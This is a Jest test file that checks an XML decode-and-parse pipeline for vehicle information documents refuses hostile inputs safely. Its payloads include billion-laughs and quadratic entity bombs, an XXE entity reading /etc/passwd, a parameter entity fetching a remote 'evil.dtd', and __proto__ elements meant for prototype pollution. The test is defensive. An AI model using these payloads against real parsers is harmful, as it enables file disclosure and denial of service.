/**
 * Hostile documents through the real pipeline (decode → parse): each is refused with the right code, nothing
 * throws, nothing is read from disk, Object.prototype stays clean. An expansion that ran away would blow the test's
 * timeout; how fast heavy documents parse is a benchmark figure (`npm run bench`, ivi), not a test.
 */
import { decodeIviDocument, parseIvi, type IviIssue } from '../../../src/ivi';

/** decode then parse, as the emulator and the subgraph do; returns the first issue or 'ok'. */
function pipeline(input: string): IviIssue | 'ok' {
  const decoded = decodeIviDocument(input);
  if (!decoded.ok) return decoded.issue;
  const parsed = parseIvi(decoded.value);
  return parsed.ok ? 'ok' : parsed.issue;
}
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const root = (inner: string): string => `<InitialVehicleInformation>${inner}</InitialVehicleInformation>`;

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<InitialVehicleInformation><Header><IVIReferenceId>&lol9;</IVIReferenceId></Header></InitialVehicleInformation>`;
const XXE = `<?xml version="1.0"?>
<!DOCTYPE InitialVehicleInformation [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<InitialVehicleInformation><Body><CocDataGroup><Type>&xxe;</Type></CocDataGroup></Body></InitialVehicleInformation>`;
const PARAMETER_ENTITY = `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/evil.dtd"> %p;]>${root('')}`;
const QUADRATIC = `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(9000)}">]>${root(`<Header><IVIReferenceId>${'&a;'.repeat(2000)}</IVIReferenceId></Header>`)}`;
const DEEP = root(`${'<a>'.repeat(5000)}x${'</a>'.repeat(5000)}`);
const OVERSIZED = root(`<Body><CocDataGroup><Type>${'A'.repeat(2 * 1024 * 1024)}</Type></CocDataGroup></Body>`);

const cases: Array<[string, string, string]> = [
  ['billion laughs', BILLION_LAUGHS, 'XML-DOCTYPE'],
  ['external entity (SYSTEM file:///etc/passwd)', XXE, 'XML-DOCTYPE'],
  ['parameter entity', PARAMETER_ENTITY, 'XML-DOCTYPE'],
  ['quadratic blow-up', QUADRATIC, 'XML-DOCTYPE'],
  ['bare DOCTYPE', `<!DOCTYPE InitialVehicleInformation>${root('')}`, 'XML-DOCTYPE'],
  [
    'DOCTYPE hidden by case and whitespace',
    `<?xml version="1.0"?><!\tdocType x SYSTEM "file:///etc/passwd">${root('')}`,
    'XML-DOCTYPE',
  ],
  ['5,000-deep nesting', DEEP, 'XML-MALFORMED'],
  ['oversized document (> 2 MiB)', OVERSIZED, 'XML-TOO-LARGE'],
  ['<__proto__> element', root('<__proto__><polluted>yes</polluted></__proto__>'), 'XML-MALFORMED'],
  [
    'namespaced <x:__proto__> element',
    root('<x:__proto__ xmlns:x="u"><polluted>yes</polluted></x:__proto__>'),
    'XML-MALFORMED',
  ],
  [
    '<constructor> element',
    root('<constructor><prototype><polluted>yes</polluted></prototype></constructor>'),
    'XML-MALFORMED',
  ],
  ['malformed XML', root('<Header><IVIReferenceId>x</Header>'), 'XML-MALFORMED'],
  ['unclosed CDATA', root('<Type><![CDATA[x</Type>'), 'XML-MALFORMED'],
  ['wrong root', '<Envelope><Body/></Envelope>', 'XML-ROOT'],
  ['bad base64', 'PD94bWwg*dmVyc2lvbj0iMS4wIj8+', 'XML-BASE64'],
];

describe.each(cases)('%s', (_label, payload, code) => {
  it.each([
    ['raw', payload],
    ['base64', code === 'XML-BASE64' ? payload : b64(payload)],
  ])(`is refused with ${code} (%s)`, (_how, input) => {
    let result: IviIssue | 'ok' = 'ok';
    expect(() => {
      result = pipeline(input);
    }).not.toThrow();
    expect(result).toMatchObject({ code, source: 'LOCAL', field: 'iviXml', path: '/iviXml' });
  });
  it('is refused by parseIvi alone too (defence in depth)', () => {
    if (code === 'XML-BASE64') return;
    expect(parseIvi(payload)).toMatchObject({ ok: false, issue: { code } });
  });
});

describe('after all of the above', () => {
  it('Object.prototype is not polluted', () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });
  it('no file content leaked into any message', () => {
    const issue = pipeline(XXE);
    expect(JSON.stringify(issue)).not.toMatch(/root:|\/bin\//);
  });
});

describe('legal but heavy documents stay cheap', () => {
  it('100-deep nesting is the limit: the parser refuses 101 with a clear message', () => {
    const at = (n: number) => root(`${'<a>'.repeat(n)}x${'</a>'.repeat(n)}`);
    expect(pipeline(at(98))).toBe('ok');
    expect(pipeline(at(150))).toMatchObject({ code: 'XML-MALFORMED', message: expect.stringMatching(/nested/i) });
  });
  it('300k character references in a near-2 MiB document parse, each to one character', () => {
    const doc = root(`<Body><CocDataGroup><Type>${'&#65;'.repeat(300_000)}</Type></CocDataGroup></Body>`);
    const r = parseIvi(doc);
    expect(r.ok && r.value.type?.length).toBe(300_000);
  });
  it('many comment and CDATA openers inside a comment do not confuse the entity check', () => {
    const doc = root(`<!--${'<![CDATA[<!--<?'.repeat(100_000)}--><Type>a &amp; b</Type>`);
    expect(parseIvi(doc).ok).toBe(true);
  });
});
